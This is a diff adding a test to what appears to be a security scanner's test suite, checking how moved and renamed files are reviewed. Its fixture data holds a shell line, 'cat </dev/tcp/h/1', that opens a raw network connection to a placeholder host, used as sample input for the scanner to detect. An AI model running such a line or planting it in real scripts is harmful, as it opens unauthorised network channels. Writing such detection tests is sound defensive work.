@@ -127,6 +127,17 @@ describe('scan engine', () => {
     expect(result.notReviewed[0]!.reason).toMatch(/time budget/);
   });
 
+  it('reviews a file moved into another folder in full, and only the edits of an in-place rename', async () => {
+    const cs = changeSetOf([
+      { path: 'scripts/ci/run.sh', code: 'cat </dev/tcp/h/1\n', added: [] },
+      { path: 'run2.sh', code: 'cat </dev/tcp/h/1\n', added: [] },
+    ]);
+    cs.files[0] = { ...cs.files[0]!, status: 'renamed', oldPath: 'docs/run.sh' };
+    cs.files[1] = { ...cs.files[1]!, status: 'renamed', oldPath: 'run.sh' };
+    const result = await scanChangeSet(cs, { catalog, data });
+    expect(result.findings.map((f) => [f.path, f.line])).toEqual([['scripts/ci/run.sh', 1]]);
+  });
+
   it('fires path rules on deleted files', async () => {
     const result = await scanChangeSet(changeSetOf([{ path: 'src/a.test.js', code: 'it()', status: 'deleted' }]), { catalog, data });
     expect(result.findings.map((f) => f.ruleId)).toEqual(['generic.test.tests-deleted']);
